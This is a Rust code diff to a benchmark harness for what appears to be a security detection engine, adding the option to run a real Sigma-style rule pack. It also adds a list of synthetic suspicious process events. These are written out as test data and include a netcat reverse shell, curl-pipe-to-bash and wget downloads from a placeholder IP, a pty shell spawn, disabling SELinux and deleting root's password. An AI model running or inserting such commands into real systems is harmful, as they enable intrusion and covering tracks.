@@ -52,6 +52,10 @@ enum Cmd {
         /// Tasks evaluating one batch's rules at once (default: one per core).
         #[arg(long)]
         threads: Option<usize>,
+        /// A pack file to run instead of the synthetic rules (its `process_events` rules), e.g.
+        /// `bench/packs/sigma-linux.yaml`; one event in 1,000 is then a suspicious command.
+        #[arg(long)]
+        pack: Option<std::path::PathBuf>,
     },
     /// Reference tables: one IN (SELECT …) rule and one JOIN rule against an IOC list of
     /// N hashes; prints events/s.
@@ -248,7 +252,13 @@ fn decode_batches(
     Ok(batches)
 }
 
-async fn rules_bench(n_rules: usize, events: usize, batch_rows: usize, threads: Option<usize>) -> anyhow::Result<()> {
+async fn rules_bench(
+    n_rules: usize,
+    events: usize,
+    batch_rows: usize,
+    threads: Option<usize>,
+    pack_file: Option<std::path::PathBuf>,
+) -> anyhow::Result<()> {
     use std::sync::Arc as A;
     use vedette_pipelines::compile::{Compiler, TableRules};
     use vedette_pipelines::rule::Pack;
@@ -256,12 +266,23 @@ async fn rules_bench(n_rules: usize, events: usize, batch_rows: usize, threads: 
 
     let catalog = A::new(Catalog::builtin());
     let compiler = Compiler::new(A::clone(&catalog))?;
-    let rules = (0..n_rules).map(|i| vedette_pipelines::rule::RuleDef::new(format!("r{i}"), rule_sql(i))).collect();
-    let pack = Pack { name: "bench".into(), version: 1, description: String::new(), author: String::new(), rules };
+    let pack = match &pack_file {
+        Some(path) => Pack::from_yaml(&path.display().to_string(), &std::fs::read_to_string(path)?)?,
+        None => {
+            let rules =
+                (0..n_rules).map(|i| vedette_pipelines::rule::RuleDef::new(format!("r{i}"), rule_sql(i))).collect();
+            Pack { name: "bench".into(), version: 1, description: String::new(), author: String::new(), rules }
+        }
+    };
     let plan_started = Instant::now();
     let mut by_table = compiler.compile_pack(&pack).await?;
     let planning = plan_started.elapsed();
     let compiled = by_table.remove("process_events").unwrap_or_default();
+    let sqls: Vec<String> = compiled
+        .iter()
+        .map(|r| pack.rules.iter().find(|d| d.id == r.meta.id).map(|d| d.sql.clone()).unwrap_or_default())
+        .collect();
+    let n_rules = compiled.len();
     let cores = std::thread::available_parallelism().map_or(1, usize::from);
     let threads = threads.unwrap_or(cores);
     // Events: varied process starts (20 programs, arguments with paths and numbers); one in
@@ -288,15 +309,36 @@ async fn rules_bench(n_rules: usize, events: usize, batch_rows: usize, threads: 
         ("/usr/bin/cron", "/usr/sbin/CRON -f {n}"),
         ("/usr/bin/perl", "perl -e 'print {n}'"),
     ];
+    // Suspicious commands for a real pack (what its rules look for, with realistic noise).
+    const SUSPICIOUS: &[(&str, &str)] = &[
+        ("/usr/bin/base64", "base64 -d /tmp/payload.b64"),
+        ("/usr/bin/nc", "nc -e /bin/sh 198.51.100.7 4444"),
+        ("/usr/bin/chmod", "chmod +s /tmp/.x/bash"),
+        ("/usr/bin/crontab", "crontab -r"),
+        ("/usr/bin/history", "history -c"),
+        ("/usr/sbin/iptables", "iptables -F"),
+        ("/usr/bin/curl", "curl -fsSL http://198.51.100.7/x.sh | bash"),
+        ("/usr/bin/python3", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"),
+        ("/usr/bin/wget", "wget http://198.51.100.7/a -O /tmp/a"),
+        ("/usr/bin/setenforce", "setenforce 0"),
+        ("/usr/bin/passwd", "passwd -d root"),
+        ("/usr/bin/find", "find / -perm -4000 -type f"),
+    ];
+    let real = pack_file.is_some();
     let rows = (0..events).map(|n| {
-        let i = n % n_rules;
-        let (exe, cmd) = if n % 1000 == 0 {
+        let i = n % n_rules.max(1);
+        let (exe, cmd) = if n % 1000 == 0 && real {
+            let (exe, cmd) = SUSPICIOUS[(n / 1000) % SUSPICIOUS.len()];
+            (exe.to_string(), cmd.to_string())
+        } else if n % 1000 == 0 {
             (format!("/usr/bin/tool{i}"), format!("tool{i} --flag-{i} x"))
         } else {
             let (exe, cmd) = PROGRAMS[n % PROGRAMS.len()];
             (exe.to_string(), cmd.replace("{n}", &n.to_string()))
         };
-        json!({"ts": n, "exe": exe, "cmdline": cmd, "user": "app", "pid": n}).to_string()
+        json!({"ts": n, "event_type": "start", "exe": exe, "cmdline": cmd, "user": "app", "pid": n,
+               "parent_exe": "/usr/bin/bash", "parent_cmdline": "bash", "cwd": "/home/app"})
+        .to_string()
     });
     let batches = decode_batches("process_events", rows, batch_rows)?;
     let now = chrono::Utc::now();
@@ -323,8 +365,8 @@ async fn rules_bench(n_rules: usize, events: usize, batch_rows: usize, threads: 
     let ctx = datafusion_ctx(&batches)?;
     let started = Instant::now();
     let mut batch_rows_out = 0;
-    for i in 0..n_rules {
-        for b in ctx.sql(&rule_sql(i)).await?.collect().await? {
+    for sql in &sqls {
+        for b in ctx.sql(sql).await?.collect().await? {
             batch_rows_out += b.num_rows();
         }
     }
@@ -517,7 +559,9 @@ fn peak_rss() -> String {
 async fn main() -> anyhow::Result<()> {
     match Cli::parse().command {
         Cmd::Spine { events, match_every, batch_rows } => spine(events, match_every, batch_rows).await,
-        Cmd::Rules { rules, events, batch_rows, threads } => rules_bench(rules, events, batch_rows, threads).await,
+        Cmd::Rules { rules, events, batch_rows, threads, pack } => {
+            rules_bench(rules, events, batch_rows, threads, pack).await
+        }
         Cmd::Spool { alerts, per_append } => spool_bench(alerts, per_append).await,
         Cmd::Dedup { entries, alerts, per_commit, repeat_every } => {
             dedup::run(entries, alerts, per_commit, repeat_every).await
@@ -537,11 +581,9 @@ async fn spool_bench(n: usize, per_append: usize) -> anyhow::Result<()> {
 
     let dir = tempfile::tempdir()?;
     let db = vedette_engine::engine::state_config(&dir.path().join("state")).open()?;
-    let text = format!(
-        "[[sinks]]\nname = \"bench\"\ntype = \"file\"\npath = \"out.jsonl\"\n\
-         spool = {{ max_bytes = \"8GiB\" }}\nbatch = {{ max_events = 1000, max_bytes = \"4MiB\", linger = \"1ms\" }}\n"
-    );
-    let config = vedette_config::Config::from_toml_str(&text)?.sinks.remove(0);
+    let text = "[[sinks]]\nname = \"bench\"\ntype = \"file\"\npath = \"out.jsonl\"\n\
+                spool = { max_bytes = \"8GiB\" }\nbatch = { max_events = 1000, max_bytes = \"4MiB\", linger = \"1ms\" }\n";
+    let config = vedette_config::Config::from_toml_str(text)?.sinks.remove(0);
     let handle = open_sink(&db, config.clone())?;
     let records: Vec<Vec<u8>> = (0..n)
         .map(|i| {
